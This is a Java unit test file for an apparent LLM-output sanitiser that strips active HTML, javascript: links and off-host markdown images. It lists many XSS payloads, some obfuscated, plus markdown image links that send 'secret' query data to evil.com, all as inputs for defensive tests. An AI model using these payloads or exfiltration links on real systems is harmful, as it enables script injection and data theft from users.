package io.llmgateway.core.output;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.llmgateway.chain.TextFilter;
import io.llmgateway.core.Work;
import io.llmgateway.core.output.Cleaner.Html;
import io.llmgateway.core.output.Cleaner.Reader;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What is taken out of texts, and what stays. */
class CleanerTest {
    private static final LinkPolicy USUAL = new LinkPolicy(Hosts.of(List.of("*")), Hosts.of(List.of()));
    private static final LinkPolicy STRICT =
            new LinkPolicy(Hosts.of(List.of("ok.com", "*.ok.com")), Hosts.of(List.of("img.ok.com")));
    private static final Pattern ACTIVE = Pattern.compile(
            "<[/]?(script|style|iframe|object|embed|form|svg|math|meta|base|link)\\b|<!|<[a-z][^<>]*\\son\\w+\\s*="
                    + "|<[a-z][^<>]*=\\s*[\"']?\\s*(javascript|vbscript|data:text/html)|\\]\\(\\s*<?javascript:",
            Pattern.CASE_INSENSITIVE);

    private final List<String> told = new ArrayList<>();

    private String clean(LinkPolicy policy, Reader reader, String text) {
        return new Cleaner(Html.STRIP, policy).clean(text, reader, told::add);
    }

    private String clean(String text) {
        return clean(USUAL, Reader.ANY, text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt\n>alert(1)</sCrIpT\t>",
                "<script/x>alert(1)</script>",
                "<scr\u0000ipt>alert(1)</script>",
                "<\u200bscript>alert(1)</script>",
                "<style>@import 'http://x'</style>",
                "<iframe src=http://x></iframe>",
                "<object data=x></object>",
                "<embed src=x>",
                "<form action=http://x><input></form>",
                "<svg/onload=alert(1)>",
                "<math href=javascript:alert(1)>",
                "<meta http-equiv=refresh content='0;url=http://x'>",
                "<base href=http://x>",
                "<link rel=stylesheet href=http://x>",
                "<x:script>alert(1)</x:script>",
                "<!-- secret -->",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<!--><script>alert(1)</script>-->",
                "<img src=x onerror=alert(1)>",
                "<img src=\"x\"onerror=alert(1)>",
                "<b/OnMouseOver = 'alert(1)'>x</b>",
                "<p style=\"background:url(http://x)\">x</p>",
                "<p style='width:exp/**/ression(alert(1))'>x</p>",
                "<p style='background:\\75rl(http://x)'>x</p>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href=\" \u0001java\tscr\nipt:alert(1)\">x</a>",
                "<a href='&#106;avascript&colon;alert(1)'>x</a>",
                "<a href='&#x6A&#0000097vascript:alert(1)'>x</a>",
                "<a href=JaVaScRiPt&Tab;:alert(1)>x</a>",
                "<a href=vbscript:msgbox(1)>x</a>",
                "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
                "<iframe srcdoc='<script>alert(1)</script>'>",
                "<b srcdoc=x>x</b>",
                "<javascript:alert(1)>",
                "<https://ok.com/onclick=alert(1)>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<<!-- -->script>alert(1)</script>",
                "<a href=java onclick=\"1\"script:alert(1)>x</a>",
                "<textarea><img title='</textarea><script>alert(1)</script>'>",
                "<b title='--><script>alert(1)</script>'>",
                "<y a=\"\n\n<script>alert(1)</script>\n\n\">",
                "<img src=x onerror=alert(1)",
                "</script ><? echo ?><!DOCTYPE x [<!ENTITY y SYSTEM 'z'>]>"
            })
    void nothingActiveIsLeft(String text) {
        for (Reader reader : List.of(Reader.ANY, Reader.MARKDOWN, Reader.BROWSER)) {
            String clean = clean(USUAL, reader, "a " + text + " z");
            assertThat(Disguise.name(clean))
                    .as(clean)
                    .doesNotContainPattern(ACTIVE)
                    .doesNotContain("onerror=alert(1)>");
            assertThat(clean).startsWith("a ");
            String escaped = new Cleaner(Html.ESCAPE, USUAL).clean(text, reader, told::add);
            assertThat(escaped).as(escaped).doesNotContainPattern("<[a-zA-Z/!?]");
        }
        assertThat(told).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "if a < b and c > d then x <= y << 2 <",
                "List<String> of <EMAIL_1>, write to <your-name> or <jo@example.org>",
                "<p>Hello <b class=\"x\">world</b><br/>\n<a href=\"https://x.org/a?b=c&amp;d\" title='on = off'>x</a></p>",
                "<!DOCTYPE html>\n<table border=1><tr><td style=\"color: red\">1</td></tr></table>",
                "<img src=\"data:image/png;base64,AAAA\" alt=dot><img src=/local.png>",
                "&lt;script&gt;alert(1)&lt;/script&gt; stays text",
                "[docs](https://x.org/a_(b) \"title\"), [a](<b c>), [x][1], [^1], [ ] todo, ![own](pic.png)\n\n[1]: https://x.org",
                "v[i](x) [&](std::string s) { return a[0](s); } [](int x){}",
                "<https://x.org/online?a=b> http://x.org www.x.org mail [me](mailto:a@b.c)! Wow![1]",
                "On line: one=1, javascript: the good parts; data:text/html is a type",
                "\ud83d\ude00 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u4f60\u597d"
            })
    void whatIsCleanStaysAsItIs(String text) {
        for (Reader reader : List.of(Reader.ANY, Reader.MARKDOWN, Reader.BROWSER)) {
            assertThat(clean(USUAL, reader, text)).isEqualTo(text);
        }
        assertThat(told).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "![pic](http://evil.com/?q=secret) b | pic b",
                "a ![](http://evil.com/x.png)b | a  b",
                "![a](//evil.com/x) | a",
                "![a](/\\evil.com/x) | a",
                "![a](https:/evil.com/x) | a",
                "![a](https://img.ok.com@evil.com/x) | a",
                "![a](https://img.ok.com.evil.com/x) | a",
                "![a](<https://evil.com/x y>) | a",
                "![a](https&#58;//evil.com/x) | a",
                "![a](https://img.ok.com/x?y=z) | ![a](https://img.ok.com/x?y=z)",
                "![a][r] and ![r] | [a][r] and ![r]",
                "[a](https://ok.com/) [b](https://x.ok.com) | [a](https://ok.com/) [b](https://x.ok.com)",
                "[a](https://evil.com/) | a",
                "[a](javascript:alert(1)) | a",
                "[a](java\\script:x \"t\") | [a](java\\script:x \"t\")",
                "[a](javascript\\:alert(1)) | a",
                "[a](mailto:me@x.org) | [a](mailto:me@x.org)",
                "[![a](http://evil.com/i)](https://ok.com) | [a](https://ok.com)",
                "[a]![](http://evil.com)(javascript:x) | [a] (javascript:x)",
                "[[a]](http://evil.com)(javascript:x) | [a] (javascript:x)",
                "[x](y ![a](http://evil.com/?q)) | [x](y  - a)",
                "[x](![javascript:](http://evil.com)alert(1)) | [x]( - javascript:alert(1))",
                "[x](java![script:](http://evil.com)alert(1)) | [x](java - script:alert(1))",
                "[x](<!-- -->javascript:alert(1)) | [x]( - javascript:alert(1))",
                "[r]: <!-- -->javascript:alert(1) | [r]:  - javascript:alert(1)",
                "[r]: ![javascript:alert(1)](http://evil.com) | [r]:  - javascript:alert(1)",
                "[[a]:x](javascript:alert(1)) | - [a]:x",
                "[y [x](a](javascript:alert(1)) | - y [x](a",
                "[r]: https://evil.com/x | [r]: #",
                "[r]: https://ok.com/x | [r]: https://ok.com/x",
                "see https://evil.com/?q=1. | see (link removed)",
                "see https://ok.com/?q=1. | see https://ok.com/?q=1.",
                "www.evil.com <https://evil.com> | (link removed) (link removed)",
                "<a href='https://evil.com'>x</a> | <a>x</a>",
                "<a href='https://ok.com'>x</a> | <a href='https://ok.com'>x</a>",
                "x <img alt='a pic' src=https://evil.com/?q> | x a pic",
                "<video poster=https://evil.com controls> | <video controls>",
                "![a](https://img.ok.com&sol@evil.com/x) | a",
                "![a](https://img.ok.com&sol;@evil.com/x) | a",
                "![a](https://img.ok.com&sol;.evil.com/x) | a",
                "[a](https://ok.com&num@evil.com/) | a",
                "[a](https&colon;//ok.com&quest@evil.com/) | a",
                "[a](https://ok.com/?a=b&amp;c=d) | [a](https://ok.com/?a=b&amp;c=d)",
                "[a](https&#58;//ok.com/) | [a](https&#58;//ok.com/)",
                "<img srcset='https://img.ok.com/a 1x, https://evil.com/b 2x' alt=a>b | ab",
                "<img srcset='data:image/png,A 1x, https://evil.com/b 2x' alt=a>b | ab",
                "<img srcset='a&#32;1x&#44;https://evil.com/b&#32;2x' alt=a>b | ab",
                "<img srcset='a 1x&comma;https://evil.com/b 2x' alt=a>b | ab",
                "<img srcset='https://img.ok.com,@evil.com/b 2x' alt=a>b | ab",
                "<img srcset='data:image/png;base64,AA 1x,b,c 2x'> | <img srcset='data:image/png;base64,AA 1x,b,c 2x'>"
            })
    void linksAndImagesStayWithinTheirHosts(String text, String clean) {
        assertThat(clean(STRICT, Reader.ANY, text).strip()).isEqualTo(clean);
    }

    @Test
    void anImageByReferenceComesFromWhereImagesMay() {
        String late = "![x]\n\n[x]: https://evil.com/?q=secret\n";
        assertThat(clean(late)).isEqualTo("![x]\n\n[x]: #\n");
        String early = "[x]: https://evil.com/?q=secret\n\n![x] and [x]";
        assertThat(clean(early)).isEqualTo("[x]: https://evil.com/?q=secret\n\n[x] and [x]");
    }

    @Test
    void fromAnyHostAnImageMayComeButTakeNothingAlong() {
        LinkPolicy any = new LinkPolicy(Hosts.of(List.of("*")), Hosts.of(List.of("*")));
        assertThat(clean(any, Reader.ANY, "![a](https://x.org/a.png)")).isEqualTo("![a](https://x.org/a.png)");
        assertThat(clean(any, Reader.ANY, "![a](https://x.org/a.png?d=1)")).isEqualTo("a");
        assertThat(clean(any, Reader.ANY, "![a](https://x.org/" + "a".repeat(120) + ")"))
                .isEqualTo("a");
    }

    @Test
    void codeInMarkdownIsShownAndNotRun() {
        String code =
                """
                Use `<script>` so:

                ```html
                <script>x</script> ![a](http://evil.com/?q)
                ```
                and ``a ` b <svg>``.
                ~~~
                <form>
                ~~~
                """;
        assertThat(clean(STRICT, Reader.MARKDOWN, code)).isEqualTo(code);
        assertThat(clean(STRICT, Reader.ANY, code)).doesNotContain("<script", "evil", "<svg", "<form");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "`\n`<script>x</script>`",
                "<div>\n```\n<script>x</script>",
                "> ```\n<script>x</script>",
                "\\`a`<script>x</script>`",
                "<b title=\"`\">`<script>x</script>",
                "``a`<script>x</script>",
                "- ```\n<script>x</script>",
                "```a`b\n<script>x</script>",
                "````\n````\n<script>x</script>",
                "<!--\n\n```\n--><script>x</script>"
            })
    void whatOnlyLooksLikeCodeIsCleaned(String text) {
        assertThat(clean(USUAL, Reader.MARKDOWN, text)).doesNotContain("<script");
    }

    @Test
    void aTerminalIsNotSteered() {
        assertThat(clean(USUAL, Reader.TERMINAL, "\u001b[2Ja\tb\n\u202ec<b>")).isEqualTo("[2Ja\tb\nc<b>");
        assertThat(told).containsExactly("control");
    }

    @ParameterizedTest
    @EnumSource(Reader.class)
    void theResultIsTheSameHoweverATextIsCut(Reader reader) {
        String[] atoms = {
            "<",
            "script",
            ">",
            "</",
            "<!--",
            "-->",
            "[",
            "]",
            "(",
            ")",
            "!",
            "http://evil/?q",
            "javascript:",
            "\"",
            "'",
            "=",
            "on",
            "x",
            " ",
            "\n",
            "\n\n",
            "`",
            "```",
            "~~~",
            "&#106;",
            "img src=",
            "\\",
            ":",
            "/",
            "<b>",
            "onerror=1",
            "https://ok.com/i",
            "www.",
            "\u0000",
            "style=",
            "data:text/html,",
            "h",
            "ht",
            "![",
            "](",
            "]:",
            "<svg "
        };
        List<Html> modes = List.of(Html.values());
        Random random = new Random(20261123);
        for (int round = 0; round < 4_000; round++) {
            StringBuilder built = new StringBuilder();
            for (int i = random.nextInt(14); i >= 0; i--) {
                built.append(atoms[random.nextInt(atoms.length)]);
            }
            String text = built.toString();
            Html html = modes.get(random.nextInt(modes.size()));
            Cleaner cleaner = new Cleaner(html, random.nextBoolean() ? USUAL : STRICT);
            String whole = cleaner.clean(text, reader, kind -> {});
            TextFilter filter = cleaner.open(reader, kind -> {});
            StringBuilder pieces = new StringBuilder();
            for (int i = 0; i < text.length(); ) {
                int end = Math.min(text.length(), i + 1 + random.nextInt(5));
                pieces.append(filter.push(text.substring(i, end)));
                i = end;
            }
            assertThat(pieces.append(filter.flush()).toString())
                    .as("%s %s", html, text)
                    .isEqualTo(whole);
            if (html == Html.STRIP && (reader == Reader.ANY || reader == Reader.BROWSER)) {
                assertThat(whole).as(text).doesNotContainPattern("<(script|svg)[\\s/>]|<!--");
            }
            if (reader == Reader.ANY) {
                assertThat(whole).as(text).doesNotContain("](javascript:", "![](http://evil");
            }
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<",
                "<a ",
                "[",
                "![",
                "[x](",
                "![a](",
                "`",
                "<!--",
                "&#",
                "<a href=\"",
                "[[x](http://evil.com)",
                "<script>",
                "https://",
                "<x y=z ",
                "[x]:",
                "](",
                "~~~\n"
            })
    void noTextTakesLong(String unit) {
        String text = unit.repeat((1 << 17) / unit.length());
        assertThat(Work.of(() -> clean(STRICT, Reader.MARKDOWN, text))).isLessThan(Duration.ofSeconds(6));
    }

    @Test
    void aHostIsAHost() {
        assertThatThrownBy(() -> Hosts.of(List.of("https://x.org")))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("*.example.com");
    }
}
